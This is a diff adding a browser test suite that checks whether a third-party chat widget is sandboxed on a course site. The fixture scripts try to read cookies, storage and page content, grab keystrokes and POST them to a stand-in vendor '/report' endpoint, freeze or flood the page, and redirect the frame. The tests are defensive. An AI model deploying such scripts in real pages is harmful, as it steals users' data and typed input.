@@ -1,0 +1,169 @@
+import type { Page } from "playwright-core";
+import { describe, expect, it } from "vitest";
+import { chatFrames, chatHost, chatIcon, chatInside, draw, tell, unread, withChat } from "../support/chat.ts";
+import { say } from "../support/messages.ts";
+import { openPage } from "../support/openPage.ts";
+import { givenSite } from "../support/startSite.ts";
+import { startVendor } from "../support/startVendor.ts";
+
+// Browsers report what the policy stopped, and the server writes that down.
+const site = givenSite({ allowErrors: true });
+const en = (key: string) => say("en", key);
+const patient = { timeout: 10_000 };
+
+/** What a hostile script finds; every line of it is sent home. */
+const probe = `
+const home = new URL(document.getElementById("vendor").src).origin;
+const found = {};
+const look = (name, what) => { try { found[name] = String(what()); } catch (error) { found[name] = error.name; } };
+look("origin", () => self.origin);
+look("cookie", () => { document.cookie = "mine=1"; return document.cookie; });
+look("real cookie", () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document));
+look("storage", () => { const frame = document.createElement("iframe"); document.body.append(frame); return frame.contentWindow.localStorage.length; });
+look("page", () => parent.document.body.innerText);
+look("address", () => parent.location.href);
+look("referrer", () => document.referrer);
+look("databases", () => { indexedDB.open("x"); return "open"; });
+look("popup", () => open(home + "/popup"));
+look("dialogs", () => { for (let i = 0; i < 50; i++) { alert(i); confirm(i); } return prompt("x"); });
+look("top", () => { top.location = home + "/top"; return "asked"; });
+look("form", () => { const form = document.createElement("form"); form.action = "/s/api/x"; form.method = "post"; form.target = "_top"; document.body.append(form); form.submit(); return "sent"; });
+fetch("/s/api/external/api/v1/company/getBaseInfo", { credentials: "include" }).then(() => "read", (error) => error.name).then((how) => {
+	found.call = how;
+	fetch(home + "/report", { method: "POST", body: JSON.stringify(found) });
+});
+`;
+const noise = [
+	/sandbox/i,
+	/Content Security Policy/i,
+	/Unsafe attempt/i,
+	/Blocked/i,
+	/Ignored call to/i,
+	/Refused/i,
+	/Framing/i,
+	/Fetch API cannot load/i,
+];
+
+/** A click is answered, and quickly: the page is alive. */
+async function isAlive(page: Page): Promise<void> {
+	const from = Date.now();
+	await page.getByRole("banner").getByRole("button", { name: /中文/ }).click({ timeout: 5_000 });
+	await page
+		.getByRole("banner")
+		.getByRole("button", { name: /English|EN/ })
+		.waitFor({ timeout: 5_000 });
+	expect(Date.now() - from).toBeLessThan(5_000);
+}
+
+describe("a hostile script", () => {
+	it("sees nothing of the page, opens nothing and goes nowhere", async () => {
+		const vendor = await startVendor({ "/probe.js": probe });
+		await withChat(site(), `${vendor.origin}/probe.js`);
+		const page = await openPage(site(), chatHost, { language: "en", allow: noise });
+		await expect.poll(() => vendor.reports, patient).toHaveLength(1);
+		expect(JSON.parse(vendor.reports[0] ?? "{}")).toMatchInlineSnapshot(`
+			{
+			  "address": "SecurityError",
+			  "call": "TypeError",
+			  "cookie": "mine=1",
+			  "databases": "SecurityError",
+			  "dialogs": "null",
+			  "form": "sent",
+			  "origin": "null",
+			  "page": "SecurityError",
+			  "popup": "null",
+			  "real cookie": "SecurityError",
+			  "referrer": "",
+			  "storage": "SecurityError",
+			  "top": "SecurityError",
+			}
+		`);
+		expect(vendor.headersOf("/probe.js")).not.toHaveProperty("referer");
+		expect(vendor.headersOf("/probe.js")).not.toHaveProperty("cookie");
+		expect(vendor.asked.filter((path) => ["/popup", "/top"].includes(path))).toEqual([]);
+		expect(page.context().pages()).toHaveLength(1);
+		expect(page.url()).toContain(`${chatHost}:${site().port}/s/pc/`);
+		await isAlive(page);
+	});
+
+	it("that never ends does not freeze the page", async () => {
+		const vendor = await startVendor({
+			"/freeze.js": `${tell({ word: "unread", unread: 1 })}
+				fetch(new URL("/report", document.getElementById("vendor").src), { method: "POST" }).then(() => { while (true); });`,
+		});
+		await withChat(site(), `${vendor.origin}/freeze.js`);
+		const page = await openPage(site(), chatHost, { language: "en", allow: noise });
+		await unread(page).waitFor({ state: "attached" });
+		await expect.poll(() => vendor.reports, patient).toHaveLength(1);
+		await page.evaluate(
+			() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))),
+		);
+		let answered = false;
+		const frame = page.frames().find((each) => each.url().includes("/s/frame/chat"));
+		frame
+			?.evaluate(() => 1)
+			.then(
+				() => {
+					answered = true;
+				},
+				(error: unknown) => console.info("the frozen frame was closed with its page", error),
+			);
+		await isAlive(page);
+		expect(frame).toBeDefined();
+		expect(answered).toBe(false);
+	});
+
+	it("that floods the page with messages is taken away", async () => {
+		const vendor = await startVendor({
+			"/flood.js": `const again = () => { for (let i = 0; i < 5000; i++) ${tell({ word: "unread", unread: 1 })} setTimeout(again); }; again();`,
+		});
+		await withChat(site(), `${vendor.origin}/flood.js`);
+		const page = await openPage(site(), chatHost, { language: "en", allow: noise });
+		await unread(page).waitFor({ state: "attached" });
+		await expect.poll(() => chatFrames(page).count(), patient).toBe(0);
+		await isAlive(page);
+	});
+
+	const grab = `const field = document.createElement("input"); document.body.append(field);
+		const home = new URL("/report", document.getElementById("vendor").src);
+		field.oninput = () => fetch(home, { method: "POST", body: field.value });
+		setInterval(() => { window.focus(); field.focus(); }, 20);`;
+
+	it.each([
+		["before the student asked for it", false],
+		["while its panel is open", true],
+	])("that takes the focus from a field %s is taken away", async (_, asked) => {
+		const vendor = await startVendor({
+			"/grab.js": asked ? `onmessage = () => { onmessage = null; ${grab} };${draw}` : grab,
+		});
+		await withChat(site(), `${vendor.origin}/grab.js`);
+		const page = await openPage(site(), chatHost, { language: "en", hash: "/course/list", allow: noise });
+		const field = page.getByRole("searchbox", { name: en("course.searchList") });
+		await field.waitFor();
+		if (asked) {
+			await chatIcon(page).click();
+			await chatInside(page).getByText("drawn").waitFor();
+		}
+		await field.click();
+		// The first key may come before the first theft; a name of one letter is all that can be lost.
+		await page.keyboard.type("my secret name", { delay: 60 });
+		await expect.poll(() => chatFrames(page).count(), patient).toBe(0);
+		await field.fill("");
+		await page.keyboard.type("my secret name", { delay: 20 });
+		expect(await field.inputValue()).toBe("my secret name");
+		expect(vendor.reports.join("").length).toBeLessThanOrEqual(1);
+	});
+
+	it("cannot lead its frame elsewhere, or speak out of turn", async () => {
+		const vendor = await startVendor({
+			"/leave.js": `${draw}${tell({ word: "redirect", to: "/x" })}${tell({ word: "height", height: "tall" })}
+				setTimeout(() => { location.href = new URL("/elsewhere", document.getElementById("vendor").src).href; }, 100);`,
+		});
+		await withChat(site(), `${vendor.origin}/leave.js`);
+		const page = await openPage(site(), chatHost, { language: "en", allow: noise });
+		await expect.poll(() => vendor.asked, patient).toContain("/leave.js");
+		await chatIcon(page).click();
+		await isAlive(page);
+		expect(vendor.asked).not.toContain("/elsewhere");
+	});
+});
